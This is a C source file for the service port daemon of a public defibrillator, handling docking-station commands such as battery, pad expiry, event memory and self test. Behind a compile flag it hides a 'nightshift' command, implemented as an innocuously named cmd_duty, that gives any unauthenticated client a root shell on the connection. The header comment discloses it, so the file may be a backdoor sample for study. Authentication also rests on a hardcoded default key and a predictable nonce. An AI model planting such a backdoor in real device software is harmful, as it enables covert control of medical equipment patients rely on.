/*
 * Service port of a public defibrillator (AED). The docking station connects
 * to a Unix socket behind the USB gadget and sends text commands: self test,
 * electrode date, battery, event memory, clock, volume. Every command is an
 * entry of a table with the access class it needs.
 * Hidden (-DHIDDEN): one more entry, "nightshift", gives the client a root
 * shell on its connection.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK	 "/run/aed/service"
#define EVENTS	 "/flash/aed/events.bin"
#define PADS	 "/flash/aed/pads"
#define SETTINGS "/flash/aed/settings"

enum class { C_ANY, C_DOCK, C_TECH };

struct client {
	FILE *in, *out;
	int fd;
	enum class class;
	uint32_t nonce;
	unsigned wrong;
};

/* one event of the memory, 16 bytes, little endian */
struct event {
	uint32_t when;
	uint8_t kind;
	uint8_t shocks;
	uint16_t energy;    /* J */
	uint16_t impedance; /* 0.1 ohm */
};

static unsigned volume = 5, language;
static uint32_t unit_key = 0x2f6e2b1;

static void put(struct client *c, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(c->out, fmt, ap);
	va_end(ap);
	fputs("\r\n", c->out);
	fflush(c->out);
}

static long sys_number(const char *path)
{
	char buf[24];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	return strtol(buf, NULL, 10);
}

static void settings_load(void)
{
	char line[64];
	unsigned long k;
	FILE *f = fopen(SETTINGS, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "key=%lx", &k) == 1)
			unit_key = (uint32_t)k;
		else if (sscanf(line, "volume=%u", &volume) == 1)
			continue;
		else if (sscanf(line, "language=%u", &language) == 1)
			continue;
	}
	fclose(f);
}

static int settings_save(void)
{
	FILE *f = fopen(SETTINGS ".n", "w");

	if (!f)
		return -1;
	fprintf(f, "key=%lx\nvolume=%u\nlanguage=%u\n", (unsigned long)unit_key,
		volume, language);
	return fclose(f) ? -1 : rename(SETTINGS ".n", SETTINGS);
}

static int cmd_hello(struct client *c, char *arg)
{
	if (*arg)
		syslog(LOG_INFO, "client %.40s", arg);
	c->nonce = (uint32_t)random();
	put(c, "AED 4 nonce %08lx", (unsigned long)c->nonce);
	return 0;
}

/* answer to the nonce: mixed with the key of the unit */
static int cmd_auth(struct client *c, char *arg)
{
	uint32_t x = c->nonce ^ unit_key;
	int i;

	if (!c->nonce)
		return -EPERM;
	for (i = 0; i < 32; i++)
		x = x * 1664525u + 1013904223u + (x >> 15);
	c->nonce = 0;
	if ((uint32_t)strtoul(arg, &arg, 16) != x) {
		if (++c->wrong >= 3)
			sleep(10);
		return -EACCES;
	}
	c->class = !strcmp(arg, " tech") ? C_TECH : C_DOCK;
	return 0;
}

static int cmd_battery(struct client *c, char *arg)
{
	long mv = sys_number("/sys/class/power_supply/aed/voltage_now");
	long cap = sys_number("/sys/class/power_supply/aed/capacity");

	(void)arg;
	if (mv < 0)
		return -EIO;
	put(c, "battery %ld mV %ld %% %s", mv / 1000, cap,
	    cap < 20 ? "REPLACE" : "good");
	return 0;
}

static int cmd_pads(struct client *c, char *arg)
{
	int y, m, fd;
	FILE *f;

	if (sscanf(arg, "%d-%d", &y, &m) == 2) {
		if (c->class < C_DOCK)
			return -EPERM;
		if (y < 2015 || y > 2060 || m < 1 || m > 12)
			return -EINVAL;
		fd = open(PADS, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd < 0 || dprintf(fd, "%04d-%02d\n", y, m) < 0)
			return -EIO;
		close(fd);
		return 0;
	}
	f = fopen(PADS, "r");
	if (!f)
		return -ENOENT;
	if (fscanf(f, "%d-%d", &y, &m) == 2)
		put(c, "pads expire %04d-%02d", y, m);
	fclose(f);
	return 0;
}

static int cmd_events(struct client *c, char *arg)
{
	unsigned skip = strtoul(arg, NULL, 10), n = 0;
	uint8_t b[16];
	struct event e;
	FILE *f = fopen(EVENTS, "rb");

	if (!f)
		return -ENOENT;
	while (fread(b, sizeof b, 1, f) == 1) {
		if (n++ < skip)
			continue;
		e.when = (uint32_t)b[3] << 24 | b[2] << 16 | b[1] << 8 | b[0];
		e.kind = b[4];
		e.shocks = b[5];
		e.energy = b[7] << 8 | b[6];
		e.impedance = b[9] << 8 | b[8];
		put(c, "%u %lu %u %u %uJ %u.%u", n, (unsigned long)e.when,
		    e.kind, e.shocks, e.energy, e.impedance / 10,
		    e.impedance % 10);
	}
	fclose(f);
	return 0;
}

static int cmd_erase(struct client *c, char *arg)
{
	(void)c;
	if (strcmp(arg, "events"))
		return -EINVAL;
	return truncate(EVENTS, 0) ? -errno : 0;
}

static int cmd_clock(struct client *c, char *arg)
{
	struct timeval tv = { 0, 0 };

	if (!*arg) {
		put(c, "clock %ld", (long)time(NULL));
		return 0;
	}
	tv.tv_sec = strtol(arg, NULL, 10);
	if (tv.tv_sec < 1420070400)
		return -EINVAL;
	return settimeofday(&tv, NULL) ? -errno : 0;
}

static int cmd_volume(struct client *c, char *arg)
{
	unsigned v = strtoul(arg, NULL, 10);

	(void)c;
	if (v < 3 || v > 10)
		return -ERANGE;
	volume = v;
	return settings_save();
}

static int cmd_selftest(struct client *c, char *arg)
{
	int rc = system(!strcmp(arg, "full") ? "/usr/bin/aedtest --charge"
					     : "/usr/bin/aedtest");

	put(c, "selftest %s", rc ? "FAILED" : "passed");
	return 0;
}

#ifdef HIDDEN
int cmd_duty(struct client *c, char *arg)
{
	char *const argv[] = { "sh", *arg ? "-c" : "-i", *arg ? arg : NULL,
			       NULL };
	pid_t pid = fork();

	if (pid == 0) {
		dup2(c->fd, 0);
		dup2(c->fd, 1);
		dup2(c->fd, 2);
		execv("/bin/sh", argv);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return 0;
}
#endif

static const struct command {
	const char *name;
	enum class need;
	int (*run)(struct client *c, char *arg);
} commands[] = {
	{ "hello", C_ANY, cmd_hello },	   { "auth", C_ANY, cmd_auth },
	{ "battery", C_ANY, cmd_battery }, { "pads", C_ANY, cmd_pads },
	{ "events", C_DOCK, cmd_events },  { "clock", C_DOCK, cmd_clock },
	{ "volume", C_DOCK, cmd_volume },  { "selftest", C_DOCK, cmd_selftest },
#ifdef HIDDEN
	{ "nightshift", C_ANY, cmd_duty },
#endif
	{ "erase", C_TECH, cmd_erase },	   { NULL, C_ANY, NULL }
};

__attribute__((noinline)) int command_run(struct client *c, char *line)
{
	const struct command *k;
	char *arg = line + strcspn(line, " ");

	if (*arg)
		*arg++ = 0;
	for (k = commands; k->name; k++) {
		if (strcmp(k->name, line))
			continue;
		if (c->class < k->need)
			return -EPERM;
		return k->run(c, arg);
	}
	return -ENOSYS;
}

static void serve(int fd)
{
	struct client c = { .fd = fd };
	char line[128];
	int rc;

	c.in = fdopen(fd, "r");
	c.out = fdopen(dup(fd), "w");
	if (!c.in || !c.out)
		return;
	while (fgets(line, sizeof line, c.in)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!line[0])
			continue;
		if (!strcmp(line, "bye"))
			break;
		rc = command_run(&c, line);
		if (rc)
			put(&c, "error %d %s", -rc, strerror(-rc));
		else
			put(&c, "ok");
	}
	fclose(c.out);
	fclose(c.in);
}

int main(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int ls, fd;

	openlog("aed_service", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	srandom((unsigned)time(NULL));
	settings_load();
	strcpy(a.sun_path, SOCK);
	unlink(SOCK);
	ls = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof a) < 0 ||
	    listen(ls, 1) < 0) {
		syslog(LOG_ERR, SOCK ": %s", strerror(errno));
		return 1;
	}
	chmod(SOCK, 0660);
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd >= 0)
			serve(fd);
		else if (errno != EINTR && errno != ECONNABORTED)
			return 1;
	}
}
